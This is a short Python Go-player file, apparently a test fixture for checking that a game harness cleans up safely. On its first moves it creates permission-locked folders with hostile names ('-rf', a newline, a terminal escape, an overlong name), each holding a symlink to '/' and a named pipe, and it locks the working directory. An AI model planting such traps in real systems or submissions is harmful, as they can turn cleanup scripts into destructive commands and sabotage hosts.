"""Leaves folders that nobody may enter, deep ones, and odd names."""

import os


def first_legal(go, piece_type):
    points = ((i, j) for i in range(go.size) for j in range(go.size))
    return next(point for point in points if go.valid_place_check(*point, piece_type, test_check=True))


class MyPlayer:
    def get_input(self, go, piece_type):
        if go.n_move < 2:
            for name in ("closed", "-rf", "new\nline", "\x1b[2J", "a" * 255):
                os.makedirs(f"{name}/inner")
                os.symlink("/", f"{name}/link")
                os.mkfifo(f"{name}/pipe")
                os.chmod(name, 0)
            os.chmod(".", 0)
        return first_legal(go, piece_type)
